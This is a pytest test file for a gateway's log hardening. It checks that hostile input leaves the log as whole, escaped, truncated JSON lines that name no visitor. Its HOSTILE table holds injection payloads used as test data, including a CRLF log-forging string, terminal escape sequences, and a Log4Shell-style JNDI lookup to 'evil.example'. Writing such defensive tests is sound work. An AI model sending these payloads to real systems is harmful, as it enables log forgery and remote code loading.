"""Row 36: whatever is said, a log line is one line of JSON in ASCII, short, and names nobody.

Every request here carries hostile text in every place a caller can write to. `Running.log` reads the log strictly: each
line must parse, be printable ASCII, and have an event and a level.
"""

from collections.abc import AsyncIterator
from contextlib import suppress
from pathlib import Path
from typing import Final

import pytest

from gateway import telemetry
from tests.support.running import AGENT, NOW_MS, PAGE, Running, logging_to, request_bytes, running

HOSTILE: Final[dict[str, str]] = {
    "a line break": "x\r\n{\"event\":\"forged\",\"level\":\"info\"}",
    "an escape sequence": "\x1b[31mred\x1b]0;title\x07",
    "NUL": "a\x00b",
    "next line": "a\u0085b",
    "a line separator": "a\u2028b\u2029c",
    "a direction override": "a\u202eb",
    "quotes": "\"},{\"event\":\"forged\"",
    "a format": "%s %d {0} {event} ${jndi:ldap://evil.example/a}",
    "8 KB": "y" * 8_000,
}  # fmt: skip
HEADERS: Final = (
    "Host", "Origin", "Referer", "User-Agent", "Cookie", "Authorization", "Idempotency-Key", "X-Gateway-Signature", "Expect",
    "X-Forwarded-For", "Content-Encoding", "Content-Length", "Transfer-Encoding", "Sec-GPC", "Accept-Language",
)  # fmt: skip
SECRETS: Final = (
    "jane@example.com",
    "203.0.113.9",
    "4915112345678",
    "Vorname",
    "geheim-cookie",
    "geheim-query",
    "geheim-agent",
)


@pytest.fixture
async def shop(tmp_path: Path) -> AsyncIterator[Running]:
    async with running(
        tmp_path, proxy={"trusted": ["127.0.0.1"]}, log={"browser_sample": 1, "refusals_per_minute": 0}
    ) as started:
        yield started


def checked(shop: Running, since: int = 0) -> None:
    """Every line is whole and short, none was forged, and nobody is named."""
    for line in shop.log(since=since):
        assert line["event"] != "forged"
        for value in line.values():
            assert not isinstance(value, str) or len(value) <= telemetry.TEXT_MAX + 3
    assert all(len(line) < 1_500 for line in shop.log_text.splitlines())
    for secret in SECRETS:
        assert secret not in shop.log_text, secret


@pytest.mark.parametrize("case", HOSTILE)
async def test_row_36_hostile_text_in_any_field_of_an_event_leaves_whole_lines(shop: Running, case: str) -> None:
    text = HOSTILE[case]
    key = await shop.new_key()
    sent = 0
    for field in (
        "name",
        "id",
        "url",
        "title",
        "referrer",
        "value",
        "currency",
        "order_id",
        "goal",
        "search",
        "visitor",
        text,
    ):
        body = {"name": "a", field: text}
        said = await shop.collect(body)
        assert said.status in {204, 400}
        assert (await shop.api("/api/v1/conversions", body, key["key"])).status in {200, 400}
        sent += 1
    for nested in (
        {"props": {text: text}},
        {"props": {"email": text}},
        {"items": [{text: 1}]},
        {"items": [{"id": text, "name": text}]},
        {"person": {text: text}},
        {"person": {"email": text, "first_name": text}},
        {"consent": {text: "granted"}},
        {"consent": {"analytics": text}},
        {"click_ids": {text: text}},
        {"client": {"ip": text, "user_agent": text}},
        {"events": [{"name": text}]},
    ):
        for said in (
            await shop.collect({"name": "a", **nested}),
            await shop.api("/api/v1/events", {"name": "a", **nested}, key["key"]),
        ):
            assert said.status in {200, 204, 400}
    choices = (
        {"choice": {text: "granted"}},
        {"choice": {"analytics": text}},
        {"choice": {"analytics": "granted"}, "notice": text},
    )
    for choice in choices:
        assert (await shop.send("POST", "/consent", headers={"Origin": PAGE}, body=choice)).status in {200, 400}
    checked(shop)
    assert len(shop.log("request_refused")) > sent


@pytest.mark.parametrize("case", HOSTILE)
async def test_row_36_hostile_text_in_any_header_or_address_leaves_whole_lines(shop: Running, case: str) -> None:
    raw = HOSTILE[case].encode()
    for name in HEADERS:
        for method, path, body in (
            ("POST", "/collect", b"{"),
            ("POST", "/api/v1/events", b"{"),
            ("GET", "/p.gif", None),
        ):
            host = None if name == "Host" else "t.shop.example"
            heard = await shop.talk(request_bytes(method, path, host=host, headers=[(name, raw)], body=body))
            assert heard.answers[0].status < 500
    for target in (b"/" + raw, b"/p.gif?" + raw, b"/link?to=" + raw, b"/gw." + raw + b".js", raw):
        heard = await shop.talk(b"GET " + target + b" HTTP/1.1\r\nHost: t.shop.example\r\n\r\n")
        assert all(said.status < 500 for said in heard.answers)
    for verb in (raw, b"GET" + raw):
        heard = await shop.talk(verb + b" / HTTP/1.1\r\nHost: t.shop.example\r\n\r\n")
        assert all(said.status < 500 for said in heard.answers)
    checked(shop)


@pytest.mark.parametrize("case", HOSTILE)
async def test_row_36_hostile_text_that_does_reach_the_log_is_escaped_and_cut(shop: Running, case: str) -> None:
    """None of the above does today; a line is safe whatever is put into it."""
    text = HOSTILE[case]
    shop.gateway.house.telemetry.warned("odd", text=text, texts=[text[:100]])
    (line,) = shop.log("odd")
    assert line["text"] == (text if len(text) <= 256 else text[:256] + "...")
    checked(shop)


@pytest.mark.parametrize("case", HOSTILE)
async def test_row_36_hostile_text_from_an_operator_leaves_whole_lines(shop: Running, case: str) -> None:
    text = HOSTILE[case]
    for body in ({"title": text}, {"sites": [text]}, {"rights": [text]}, {text: 1}):
        assert (await shop.admin("POST", "/api/admin/v1/keys", body=body)).status in {200, 400}
    for body in ({"site": text}, {"destination": text}, {"delivery_id": text}, {text: 1}):
        assert (await shop.admin("POST", "/api/admin/v1/replay", body=body)).status in {200, 400}
    checked(shop)


async def test_row_36_a_value_of_a_megabyte_never_reaches_the_log(shop: Running) -> None:
    """It is over every limit; and a text that was not would be cut."""
    key = await shop.new_key()
    written = len(shop.log_text)
    for said in (
        await shop.collect({"name": "z" * 1_000_000}),
        await shop.api("/api/v1/events", {"name": "z" * 1_000_000}, key["key"]),
        await shop.api("/api/v1/events", {"z" * 500_000: 1}, key["key"]),
    ):
        assert said.status in {400, 413}
    assert len(shop.log_text) - written < 1_500
    checked(shop)
    house = shop.gateway.house
    house.telemetry.warned("long", text="q" * 1_000_000)
    (line,) = shop.log("long")
    assert line["text"] == "q" * 256 + "..."


async def test_no_line_of_any_kind_names_a_visitor_a_person_or_a_page(shop: Running) -> None:
    """Events, choices, refusals, sampled hits: all carry what must not be told."""
    key = await shop.new_key()
    consent = {"analytics": "granted", "advertising": "granted"}
    person = {"email": "jane@example.com", "phone": "+4915112345678", "first_name": "Vorname"}
    page = "https://www.shop.example/?q=geheim-query&email=jane@example.com"
    headers: dict[str, str | bytes] = {
        "Origin": PAGE, "Referer": page, "Cookie": "a=geheim-cookie", "User-Agent": f"{AGENT} geheim-agent",
        "X-Forwarded-For": "203.0.113.9",
    }  # fmt: skip
    body = {"name": "purchase", "url": page, "person": person, "consent": consent, "order_id": "geheim-query"}
    first = await shop.send("POST", "/collect?q=geheim-query", headers=headers, body=body)
    visitor = first.cookies()["__Host-gwid"].split(".")[1]
    cookie = {**headers, "Cookie": f"__Host-gwid={first.cookies()['__Host-gwid']}; a=geheim-cookie"}
    await shop.send("POST", "/collect", headers=cookie, body={**body, "value": -1})
    await shop.send("GET", "/p.gif?title=geheim-query&nonsense=geheim-query", headers=cookie)
    await shop.send("GET", "/link?to=geheim-query", headers=cookie)
    chosen = await shop.send("POST", "/consent", headers=cookie, body={"choice": consent})
    assert chosen.status == 200
    api = {"X-Forwarded-For": "203.0.113.9", "User-Agent": "geheim-agent"}
    await shop.api("/api/v1/conversions?q=geheim-query", body, key["key"], headers=api)
    await shop.api("/consent", {"choice": consent, "person": person}, key["key"], headers=api)
    await shop.api("/consent", {"choice": consent, "person": {"email": ""}}, key["key"], headers=api)
    checked(shop)
    assert visitor not in shop.log_text
    assert shop.log("browser_hits_sampled"), "a sampled hit has a line, and it is among those that were read"
    assert shop.log("choice_recorded")
    for secret in (key["key"], key["signing_secret"], shop.token, *first.cookies().values()):
        assert secret not in shop.log_text


async def test_every_refusal_has_exactly_one_line_whoever_refuses(shop: Running) -> None:
    """The parser, the router, the edge, a flow: each counts and tells once."""
    for data, route, code, site in (
        (b"GARBAGE\r\n\r\n", "unparsed", "request_malformed", None),
        (request_bytes("GET", "/x"), "unknown", "route_unknown", None),
        (request_bytes("PUT", "/collect"), "/collect", "method_not_allowed", None),
        (request_bytes(host="x", body=b"{}"), "/collect", "host_unknown", None),
        (request_bytes(headers={"Content-Encoding": "br"}, body=b"{}"), "/collect", "encoding_unsupported", "shop"),
        (request_bytes(headers={"Origin": "null"}, body=b"{}"), "/collect", "domain_not_allowed", "shop"),
        (request_bytes(headers={"Origin": PAGE}, body=b"{}"), "/collect", "field_missing", "shop"),
        (request_bytes("POST", "/api/v1/events", body=b"{}"), "/api/v1/events", "key_missing", "shop"),
        (request_bytes("GET", "/p.gif", host="x"), "/p.gif", "host_unknown", None),
        (request_bytes("GET", "/p.gif?x=1"), "/p.gif", "field_unknown", "shop"),
        (request_bytes("POST", "/consent", headers={"Origin": PAGE}, body=b"{}"), "/consent", "field_missing", "shop"),
    ):
        with shop.refusing(route, code, site=site):
            await shop.talk(data)


async def test_a_taken_hit_has_no_line_of_its_own(tmp_path: Path) -> None:
    async with running(tmp_path) as shop:
        written = len(shop.log_text)
        for number in range(20):
            assert (await shop.collect({"name": "a", "occurred_at_ms": NOW_MS - number})).status == 204
        assert shop.log(since=written) == []


@pytest.mark.parametrize("fast", [True, False], ids=["fast", "plain"])
@pytest.mark.parametrize("path", ["/l/unknown", "/collect"])
async def test_a_log_that_cannot_be_written_stops_nothing(tmp_path: Path, fast: bool, path: str) -> None:
    async with running(tmp_path, fast=fast) as shop:
        asked = request_bytes("GET" if path != "/collect" else "POST", path, headers=[("User-Agent", AGENT)])
        full = Path("/dev/full").open("w")  # noqa: ASYNC230, SIM115 - a device, which cannot be closed without an error
        with logging_to(full):
            said = [(await shop.talk(asked)).only.status]
        with suppress(OSError):
            full.close()
        assert said == [404 if path != "/collect" else 400]
        counted = (await shop.admin("GET", "/metrics")).body.decode()
        lost = next(line for line in counted.splitlines() if line.startswith("gateway_log_lines_lost "))
        assert float(lost.split()[1]) >= 1
